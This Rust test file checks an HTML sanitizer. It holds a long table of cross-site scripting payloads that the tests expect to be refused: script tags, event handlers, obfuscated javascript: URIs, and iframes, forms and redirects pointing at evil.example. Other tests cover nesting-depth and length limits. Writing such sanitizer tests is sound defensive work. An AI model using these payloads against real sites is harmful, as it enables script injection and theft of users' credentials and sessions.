//! What may act is refused, by its name, however it is disguised.

use portero_domain::model::{CleanHtml, HtmlRefusal};

use crate::clean;

/// Known ways to make HTML act, and what is found in each.
const ACTIVE: &[(&str, &str)] = &[
    ("<script>alert(1)</script>", "<script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>"),
    ("<ScRiPt>alert(1)</sCrIpT>", "<script>"),
    ("<script/xss src=//evil.example></script>", "<script>"),
    ("<script\n\t\x0C>alert(1)</script>", "<script>"),
    ("<scr\0ipt>alert(1)</scr\0ipt>", "<script>"),
    ("<<script>alert(1)//<</script>", "<script>"),
    ("<p title='</p><script>'><script>x</script>", "<script>"),
    ("hola</script>", "<script>"),
    ("<title><!--</title><script>alert(1)</script>-->", "<script>"),
    ("<style><!--</style><script>alert(1)</script>-->", "<script>"),
    ("<!--><script>alert(1)</script>-->", "<script>"),
    ("<!-- --!><script>alert(1)</script>", "<script>"),
    ("<![CDATA[><script>alert(1)</script>]]>", "<script>"),
    ("<?xml ><script>alert(1)</script>?>", "<script>"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<img/src='x'/onerror=alert(1)>", "onerror"),
    ("<IMG SRC=x OnErRoR = 'alert(1)'>", "onerror"),
    ("<img \"\"\"><p onclick=x>", "onclick"),
    ("<p o\0nclick=alert(1)>hola</p>", "onclick"),
    ("<p\x0Conclick\x0C=alert(1)>hola</p>", "onclick"),
    ("<body onload=alert(1)>hola", "onload"),
    ("<details open ontoggle=alert(1)>", "ontoggle"),
    ("<p style='animation:x' onanimationstart=alert(1)>", "onanimationstart"),
    ("<xss onpointerrawupdate=alert(1)>x</xss>", "onpointerrawupdate"),
    ("<p class='x\" onclick=\"y' onfocus=z>", "onfocus"),
    ("<a href='javascript:alert(1)'>x</a>", "javascript:"),
    ("<a href=JaVaScRiPt:alert(1)>x</a>", "javascript:"),
    ("<a href='  javascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='\x01\x1Fjavascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='java\nscript:alert(1)'>x</a>", "javascript:"),
    ("<a href='java\tscript\r:alert(1)'>x</a>", "javascript:"),
    ("<a href='java\0script:alert(1)'>x</a>", "javascript:"),
    ("<a href='java&#10;script:alert(1)'>x</a>", "javascript:"),
    ("<a href='java&Tab;script&colon;alert(1)'>x</a>", "javascript:"),
    ("<a href='&#106;avascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='&#x6A&#x61vascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='&#0000106avascript&#58;alert(1)'>x</a>", "javascript:"),
    ("<a href='\u{200B}javascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='\u{A0}javascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='vbscript:msgbox(1)'>x</a>", "vbscript:"),
    ("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "data:"),
    ("<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "data:"),
    ("<img src='javascript:alert(1)'>", "javascript:"),
    ("<img dynsrc='javascript:alert(1)'>", "javascript:"),
    ("<table background='javascript:alert(1)'>", "javascript:"),
    ("<blockquote cite='javascript:alert(1)'>x</blockquote>", "javascript:"),
    ("<a href='file:///etc/passwd'>x</a>", "file:"),
    ("<a href='ms-word:ofe|u|https://evil.example'>x</a>", "ms-word:"),
    ("<a href='blob:https://evil.example/1'>x</a>", "blob:"),
    ("<iframe src=https://evil.example></iframe>", "<iframe>"),
    ("<iframe srcdoc='&lt;script&gt;'>", "<iframe>"),
    ("<p srcdoc='&lt;script&gt;'>hola</p>", "srcdoc"),
    ("<frameset><frame src=https://evil.example></frameset>", "<frameset>"),
    ("<object data=https://evil.example/x.swf></object>", "<object>"),
    ("<embed src=https://evil.example/x.swf>", "<embed>"),
    ("<applet code=x></applet>", "<applet>"),
    ("<form action=https://evil.example><input name=password>", "<form>"),
    ("</p><input type=image src=https://evil.example>", "<input>"),
    ("<button formaction=javascript:alert(1)>x</button>", "<button>"),
    ("<textarea><img title='</textarea><script>'></textarea>", "<textarea>"),
    ("<select><option><style></select><script>", "<select>"),
    ("<isindex type=image src=1 onerror=alert(1)>", "<isindex>"),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta>"),
    ("<base href=https://evil.example/>", "<base>"),
    ("<link rel=stylesheet href=https://evil.example/x.css>", "<link>"),
    ("<svg><script>alert(1)</script></svg>", "<svg>"),
    ("<svg/onload=alert(1)>", "<svg>"),
    ("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg>"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math>"),
    ("<math href='javascript:alert(1)'>x</math>", "<math>"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noscript>"),
    ("<noembed><img title='</noembed><script>'></noembed>", "<noembed>"),
    ("<xmp><p title='</xmp><script>'></xmp>", "<xmp>"),
    ("<template><script>alert(1)</script></template>", "<template>"),
    ("hola<plaintext>", "<plaintext>"),
];

#[test]
fn what_may_act_is_refused_by_its_name() {
    for (html, what) in ACTIVE {
        let refused = HtmlRefusal::Active { what: (*what).to_owned() };
        assert_eq!(clean(html), Err(refused), "{html:?}");
    }
}

#[test]
fn it_is_found_wherever_it_stands() {
    for (html, what) in ACTIVE {
        let html = format!("<html><head><title>Hola</title></head><body><p>Hola</p>{html}");
        let refused = HtmlRefusal::Active { what: (*what).to_owned() };
        assert_eq!(clean(&html), Err(refused), "{html:?}");
    }
}

#[test]
fn elements_that_stand_too_deep_in_each_other_are_refused() {
    let refused = |what: &str| Err(HtmlRefusal::Active { what: what.to_owned() });
    let deep = |piece: &str, times: usize| clean(&format!("{}x", piece.repeat(times)));
    assert!(deep("<div>", 256).is_ok());
    assert_eq!(deep("<div>", 257), refused("<div> × 257"));
    assert_eq!(deep("<div></p></b>", 10_000 / 3), refused("<div> × 257"));
    assert_eq!(deep("<ul><li>", 6_000), refused("<ul> × 257"));
    assert_eq!(deep("<table><tr><td><div>", 2_000), refused("<table> × 129"));
    assert_eq!(deep("<dl><dt><dd>", 4_000), refused("<dl> × 257"));
    assert_eq!(deep("<rt>", 10_000), refused("<rt> × 257"));
}

#[test]
fn much_beside_each_other_is_not_deep() {
    for piece in ["<p>x", "<div>x</div>", "<ul><li>x<li>y</ul>", "<br>", "<b>x</b>"] {
        assert!(clean(&format!("{}x", piece.repeat(2_000))).is_ok(), "{piece}");
    }
    let rows = format!("<table>{}</table>", "<tr><td>x<td>y".repeat(2_000));
    assert!(clean(&rows).is_ok());
}

#[test]
fn a_name_that_is_told_is_short() {
    let long = "x".repeat(10_000);
    for html in [format!("<p on{long}=1>"), format!("<a href='{long}:1'>")] {
        let Err(HtmlRefusal::Active { what }) = clean(&html) else { panic!("it is accepted") };
        assert!(what.len() <= 33, "{what}");
    }
}

#[test]
fn so_much_and_no_more_is_read() {
    let most = format!("<p>{}</p>", "ñ".repeat(CleanHtml::LIMIT - 7));
    assert_eq!(clean(&most), Ok(most.clone()));
    let refused = HtmlRefusal::TooLong { limit: CleanHtml::LIMIT };
    assert_eq!(clean(&format!("{most} ")), Err(refused.clone()));
    let active = format!("<script>{most}");
    assert_eq!(clean(&active), Err(refused), "nothing of it is looked at");
}

#[test]
fn nothing_to_be_seen_is_nothing() {
    for html in [
        "",
        "  \n ",
        "<p></p><br><hr>",
        "<p>&nbsp;\u{2003}</p>",
        "<!-- hola -->",
        "<title>hola</title>",
        "<style>p { color: red }</style>",
        "<img alt='hola'>",
        "<img src='http://acme.example/x.png'>",
        "<img src='/x.png'>",
        "<p>\u{202E}\u{1}</p>",
    ] {
        assert_eq!(clean(html), Err(HtmlRefusal::Empty), "{html:?}");
    }
    assert!(clean("<img src='https://acme.example/x.png'>").is_ok(), "a picture says something");
}
